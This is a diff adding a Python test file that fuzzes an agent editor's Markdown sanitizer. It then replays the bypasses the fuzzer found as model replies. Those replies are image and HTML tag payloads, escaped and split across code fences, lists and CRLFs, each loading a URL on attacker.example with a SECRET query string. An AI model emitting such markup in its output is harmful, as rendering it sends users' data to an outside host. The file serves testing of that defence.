@@ -1,0 +1,86 @@
+"""Fuzzing the editor's text guard (`acp/inert.py`) with Markdown built from pieces (fences of
+``` and ~~~ of every length, closed or not, indented code, HTML blocks, reference definitions,
+lists and block quotes around fences, entity-encoded, escaped and protocol-relative addresses),
+whole and cut into stream deltas: what a CommonMark renderer (markdown-it-py) would load from a
+host off the list must be nothing. Seeded and bounded in time; `python
+tests/acp/markdown_fuzz.py SECONDS FIRST_SEED` runs it for longer. The cases it found are
+replayed through `loopwright acp` below."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+from acp import text_block
+from editor_client import EditorClient, acp_agent, text_of
+from markdown_fuzz import ALLOWED_HOST, document, leaks, pieces, remote_loads
+
+from loopwright.acp.inert import MarkdownGuard
+from loopwright.testing import FakeModelServer, Reply
+
+SECONDS = 3.0
+
+
+def test_no_image_off_the_list_survives_the_fuzz() -> None:
+    found, seed, deadline = [], 0, time.monotonic() + SECONDS
+    while time.monotonic() < deadline:
+        case = leaks(seed)
+        if case is not None:
+            found.append((seed, *case))
+        seed += 1
+    assert seed > 300, "too few cases in the time given"
+    assert found == []
+
+
+def test_text_with_no_image_or_tag_is_passed_as_written() -> None:
+    guard = MarkdownGuard((ALLOWED_HOST,))
+    changed, seed, deadline = [], 0, time.monotonic() + SECONDS / 3
+    while time.monotonic() < deadline:
+        text = document(pieces(seed), seed).replace("!", "").replace("<", "")
+        stream = guard.stream()
+        streamed = stream.feed(text) + stream.end()
+        if guard.text(text) != text or streamed != text:
+            changed.append((seed, text))
+        seed += 1
+    assert changed == []
+
+
+# what the fuzz found, each as the editor got it from `loopwright acp`
+FOUND = {
+    # in a tag a backslash escapes nothing: `\\host` is `//host` to a browser
+    "a backslashed host in a tag": '<img src="\\\\attacker.example/b?d=SECRET">\n',
+    # the empty item after a block quote continues its paragraph for loopwright, so the fence
+    # holds the lines after it; for markdown-it the item holds the fence, which ends with it,
+    # and the tag begun on a line of "code" ends on the next
+    "a tag over two lines of code": "> a\n- \n  ```x\n<img\nsrc='https://attacker.example/t?d=SECRET'>\n",
+    # the list item (and so its fence) ends at the unindented line for loopwright, not for
+    # markdown-it, for which the block quote ended the list: the tag begun in code runs on
+    "a tag over the end of a list item": (
+        "2) x\n> quoted\n    ````\n\n   <img\nsrc='https://attacker.example/t?d=SECRET'>"),
+    # an image over two lines of "code"; its opening went with the first, so what replaces the
+    # rest must end it, or the opening, the placeholder and the link's `](…)` make an image
+    "an image over two lines of code in a link": (
+        "> a\n- \n  ```x\n[![a\nb](https://attacker.example/n?d=SECRET)](https://link.example)\n"),
+    # an image not ended on its line of code is replaced as it stands (its address might end
+    # where the guard does not look for it: after a CR, here), not only once it ends
+    "an image ended on the next line after CRLF": (
+        "```\r\ncode\r\n```\r\n![a](https://attacker.example/c?d=SECRET\r\n)\r\n"),
+    # an image not ended in code is none: the tag inside it is one
+    "a tag in an unended image in code": (
+        "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
+        "src='https://attacker.example/e?d=SECRET'>\n"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(FOUND))
+async def test_what_the_fuzz_found_is_not_sent(tmp_path: Path, name: str) -> None:
+    reply = FOUND[name]
+    assert any("SECRET" in address for address in remote_loads(reply))  # as the model wrote it
+    client = EditorClient()
+    with FakeModelServer([Reply(reply, chunk_size=3)]) as server:
+        async with acp_agent(client, server, tmp_path) as conn:
+            session = (await conn.new_session(cwd=str(tmp_path), mcp_servers=[])).session_id
+            await conn.prompt(session_id=session, prompt=[text_block("show it")])
+    shown = text_of(client)
+    assert remote_loads(shown) == []
